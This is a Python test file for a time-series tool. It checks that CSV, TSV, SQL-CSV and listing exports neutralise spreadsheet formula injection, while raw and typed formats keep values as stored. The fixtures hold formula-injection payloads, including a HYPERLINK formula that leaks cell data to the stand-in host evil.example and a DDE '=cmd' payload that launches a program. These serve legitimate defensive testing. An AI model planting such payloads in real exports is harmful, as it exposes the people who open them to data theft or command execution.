"""Issue 29, class 2: exports are safe in spreadsheets.

Names come from any feed (a CSV header, a GDELT actor, a logged path); a CSV or TSV cell
beginning with =, +, -, @, tab or CR is run as a formula by the spreadsheet a journalist opens
it in. Those cells get a leading ' (numbers untouched); --raw writes them as stored; typed
formats (JSON, NDJSON, Parquet) keep every value as it is.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
]


@pytest.fixture
def formula_run(cli, tmp_path: Path):  # type: ignore[no-untyped-def]
    """Series named by formulas (a wide CSV's header) and events named by formulas."""
    days = [f"2016-11-{d:02d}" for d in range(1, 29)]
    header = ["ts", "=cmd|' /C calc'!A0", "+plus", "@at", "-minus", "plain"]
    metrics = tmp_path / "metrics.csv"
    with metrics.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        for i, day in enumerate(days):
            writer.writerow([day, (i * 7) % 5, (i * 3) % 4, i % 3, i % 4, -((i * 5) % 7)])
    events = tmp_path / "events.csv"
    with events.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["ts", "kind", "name"])
        for i, name in enumerate(FORMULAS[:4]):
            writer.writerow([days[5 + 4 * i], "x", name])
    assert cli("load", str(metrics), "--prefix", "", "--kind", "count").exit_code == 0
    assert cli("load", str(events)).exit_code == 0
    run = cli("xcorr", "--events", "true", "--by", "name", "--bucket", "1d", "--max-lag", "2")
    assert run.exit_code == 0, run.output
    return cli


def dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_c_formula_names_in_every_export_format(formula_run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cli = formula_run
    written: dict[str, Path] = {}
    for fmt in ("csv", "tsv", "parquet", "json", "ndjson", "md"):
        for table in ("xcorr", "peaks") if fmt in ("csv", "tsv") else ("xcorr",):
            out = tmp_path / f"{table}.{fmt}"
            result = cli("export", "--table", table, "--format", fmt, "--out", str(out))
            assert result.exit_code == 0, result.output
            written[f"{table}.{fmt}"] = out
    for name in ("xcorr.csv", "xcorr.tsv", "peaks.csv", "peaks.tsv"):
        sep = "\t" if name.endswith("tsv") else ","
        frame = pl.read_csv(written[name], separator=sep, infer_schema=False)
        cells = [v for c in ("event_set", "series") for v in frame[c].to_list()]
        assert not [c for c in cells if dangerous(c)], name
        assert "'=cmd|' /C calc'!A0" in cells and "'@at" in cells and "'+plus" in cells
        assert "'-minus" in cells and "plain" in cells
        # numbers untouched: negative r and lags are still numbers
        assert frame["lag"].cast(pl.Int64).min() == -2
        assert (frame["r"].cast(pl.Float64) < 0).any()
    # typed formats keep the names as they are (documented)
    for name in ("xcorr.parquet", "xcorr.json", "xcorr.ndjson"):
        path = written[name]
        frame = (
            pl.read_parquet(path)
            if name.endswith("parquet")
            else pl.read_json(path)
            if name.endswith(".json")
            else pl.read_ndjson(path)
        )
        assert "=cmd|' /C calc'!A0" in frame["series"].to_list()
    # html (the table page; a run's html export is its report, drawn by test_pictures)
    from tscorr.results.export import write

    written["xcorr.html"] = write(
        pl.read_parquet(written["xcorr.parquet"]), "html", tmp_path / "xcorr.html"
    )
    for name in ("xcorr.md", "xcorr.html"):
        assert "=cmd" in written[name].read_text()  # not spreadsheets: shown, escaped
    raw = tmp_path / "raw.csv"
    assert cli("--raw", "export", "--table", "xcorr", "--out", str(raw)).exit_code == 0
    assert "=cmd|' /C calc'!A0" in pl.read_csv(raw)["series"].to_list()


def test_c_sql_csv_and_every_csv_listing_are_neutralised(formula_run) -> None:  # type: ignore[no-untyped-def]
    cli = formula_run
    values = ", ".join("'" + f.replace("'", "''") + "'" for f in FORMULAS)
    sql = f"SELECT unnest([{values}]) AS formula, -1.5 AS n, '=x' AS \"@col\""
    safe = cli("sql", "--csv", sql)
    assert safe.exit_code == 0, safe.output
    rows = list(csv.reader(io.StringIO(safe.stdout)))
    assert rows[0] == ["formula", "n", "'@col"]
    assert [r[0][0] for r in rows[1:]] == ["'"] * len(FORMULAS)
    assert {r[1] for r in rows[1:]} == {"-1.5"} and {r[2] for r in rows[1:]} == {"'=x"}
    raw = cli("sql", "--csv", "--raw", sql)
    assert list(csv.reader(io.StringIO(raw.stdout)))[1][0] == FORMULAS[0]
    listing = cli("ls", "series", "--csv")
    names = [r[1] for r in csv.reader(io.StringIO(listing.stdout))][1:]
    assert "'=cmd|' /C calc'!A0" in names and "'+plus" in names and "plain" in names
    # --json is not a spreadsheet format: the value as stored
    as_json = cli("sql", "--json", sql)
    assert json.loads(as_json.stdout)[0]["formula"] == FORMULAS[0]


def test_spreadsheet_safe_touches_text_only() -> None:
    from tscorr.results.outputs import spreadsheet_safe

    frame = pl.DataFrame(
        {"t": ["=1", "a=1", None, "-", ""], "x": [-1.0, 2.0, None, -3.0, 0.0], "i": [-1] * 5}
    )
    safe = spreadsheet_safe(frame)
    assert safe["t"].to_list() == ["'=1", "a=1", None, "'-", ""]
    assert safe["x"].equals(frame["x"]) and safe["i"].equals(frame["i"])
